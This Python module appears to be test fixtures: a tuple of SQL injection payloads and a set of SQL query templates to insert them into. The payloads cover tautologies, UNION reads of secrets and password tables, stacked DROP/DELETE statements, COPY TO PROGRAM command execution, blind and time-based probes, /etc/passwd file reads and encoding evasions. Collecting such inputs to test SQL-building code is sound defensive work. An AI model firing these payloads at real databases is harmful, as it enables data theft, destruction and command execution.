"""Shapes of SQL injection, each a text that somebody puts where a statement expects a value."""

SHAPES = (
    # always true, always false
    *("' OR '1'='1", "' OR 1=1 --", "1 OR 1=1", "1' OR '1'='1' /*", "') OR ('a'='a", "' OR ''='", "1 AND 1=2"),
    *("' OR id IS NOT NULL OR 'x'='y", "1) OR (1=1", "' OR 1 LIKE 1 --", "' OR NOT EXISTS (SELECT 1 WHERE 1=0) --"),
    # another table, another column
    *("' UNION SELECT 1, api_key FROM secrets --", "0 UNION ALL SELECT id, api_key FROM secrets"),
    *("' UNION SELECT id, card FROM customer --", "0 UNION SELECT id, email FROM customer ORDER BY 2"),
    *("' UNION SELECT 1, sql FROM sqlite_master --", "0 UNION SELECT 1, name FROM sqlite_schema"),
    *("' UNION SELECT 1, table_name FROM information_schema.tables --", "0 UNION SELECT 1, usename FROM pg_user"),
    *("' UNION SELECT 1, passwd FROM pg_shadow --", "0 UNION SELECT 1, current_setting('broker.pads')"),
    *("' UNION SELECT * FROM customer --", "' UNION SELECT NULL, NULL, NULL --", "' UNION SELECT 'a', 'b' --"),
    # a second statement
    *(
        "'; DROP TABLE orders; --",
        "1; DELETE FROM orders",
        "'; UPDATE customer SET email = 'x' --",
        "1; COMMIT; SELECT 1",
    ),
    *("'; ATTACH DATABASE '/tmp/x' AS x; --", "1; PRAGMA writable_schema = 1", "'; COPY orders TO PROGRAM 'id' --"),
    *("1; SET ROLE postgres", "'; SELECT pg_sleep(10) --", "'; VACUUM INTO '/tmp/x' --", "1; DO $$ BEGIN END $$"),
    # guesses, one bit at a time
    *(
        "' AND (SELECT substr(card, 1, 1) FROM customer WHERE id = 1) = '4' --",
        "1 AND (SELECT count(*) FROM secrets) > 0",
    ),
    *(
        "' OR email LIKE 'a%' --",
        "1 OR card > '5'",
        "1 AND 1 = (CASE WHEN (SELECT max(card) FROM customer) > '5' THEN 1 END)",
    ),
    *(
        "1 AND 1 = CAST((SELECT max(card) FROM customer) AS INTEGER)",
        "1 / (CASE WHEN (SELECT 1) = 1 THEN 0 ELSE 1 END)",
    ),
    # waiting
    *("' AND pg_sleep(5) IS NULL --", "1 AND (SELECT 1 FROM pg_sleep(5)) = 1", "1 AND randomblob(1000000000) IS NULL"),
    *(
        "' AND load_extension('x') --",
        "1 AND (SELECT pg_read_file('/etc/passwd')) IS NULL",
        "1 AND readfile('/etc/passwd')",
    ),
    # how it is spelled
    *(
        "'/**/OR/**/1=1--",
        "' oR/*x*/1=1-- -",
        "'%20OR%201=1",
        "' || (SELECT api_key FROM secrets) || '",
        "\\' OR 1=1 --",
    ),
    *("'' OR 1=1 --", "\x00' OR 1=1 --", "\u02bc OR 1=1 --", "\uff07 OR 1=1 --", "$$ OR 1=1 $$", "E'\\' OR 1=1 --"),
    *("' OR U&'\\0031' = '1", "1 ORDER BY 99", "1 ORDER BY (SELECT card FROM customer LIMIT 1)", "1 LIMIT 0 OFFSET 1"),
    *(
        "1 GROUP BY card HAVING 1=1",
        "1 INTO OUTFILE '/tmp/x'",
        "' PROCEDURE ANALYSE() --",
        "0x31",
        "1e309",
        "'",
        '"',
        "--",
        "/*",
    ),
    *("1 -- \n OR 1=1", "1\u2028OR 1=1", "(SELECT 1)", "*", "?", ":id", "@@version", "$1", "%s", "{0}", "`id`", "[id]"),
)

TEMPLATES = (
    "SELECT id, status FROM orders WHERE status = '{}' ORDER BY id",
    "SELECT id, name FROM customer WHERE name LIKE '%{}%' ORDER BY id",
    "SELECT id, '{}' AS said FROM orders WHERE id < 15 ORDER BY id",
    "SELECT o.id, c.email FROM orders o JOIN customer c ON c.id = o.customer_id AND o.status = '{}' ORDER BY o.id",
    "SELECT id, total FROM orders WHERE id = {} ORDER BY id",
    "SELECT id, total FROM orders WHERE customer_id IN (1, {}) ORDER BY id",
    "SELECT id, total FROM orders ORDER BY {}",
    "SELECT id, total FROM orders ORDER BY id LIMIT {}",
    "SELECT id, {} FROM orders ORDER BY id",
)
"""Where a program that puts SQL together would have put the text: in quotes, or bare."""
